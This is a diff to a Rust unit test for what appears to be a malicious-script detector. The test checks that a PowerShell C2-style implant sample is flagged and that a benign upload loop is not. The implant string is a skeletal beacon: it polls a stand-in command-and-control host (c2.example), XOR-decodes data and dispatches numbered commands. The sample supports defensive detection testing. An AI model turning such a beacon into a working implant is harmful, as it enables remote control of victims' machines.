@@ -114,11 +114,17 @@ fn orders_over_a_connection_are_told() {
 #[test]
 fn a_protocol_of_its_own_is_told() {
     let implant = "while ($true) {\n  $q = [System.Net.HttpWebRequest]::Create('https://c2.example/a')\n  $body = 'Content-Disposition: form-data; name=x'\n  for ($i = 0; $i -lt $d.Length; $i++) { $d[$i] = $d[$i] -bxor 0x5A }\n  if ($n -eq 1) { } elseif ($n -eq 2) { } elseif ($n -eq 3) { }\n  Start-Sleep 60\n}\n";
-    assert!(codes(&examine(implant)).contains(&"script.implant".to_owned()));
+    let told = codes(&examine(implant));
+    assert!(
+        told.iter().any(|code| code.starts_with("script.implant")),
+        "{told:?}"
+    );
     let upload = "$b = [guid]::NewGuid()\n$body = \"--$b`r`nContent-Disposition: form-data; name=`\"file`\"`r`n\"\n$n = 0\nwhile ($n -lt 3) {\n  Invoke-RestMethod -Method Post -Uri 'https://api.example/upload' -Body $body -ContentType 'multipart/form-data'\n  $n++\n  Start-Sleep 5\n}\n";
     let report = examine(upload);
     assert!(
-        !codes(&report).contains(&"script.implant".to_owned()),
+        !codes(&report)
+            .iter()
+            .any(|code| code.starts_with("script.implant")),
         "{:?}",
         codes(&report)
     );
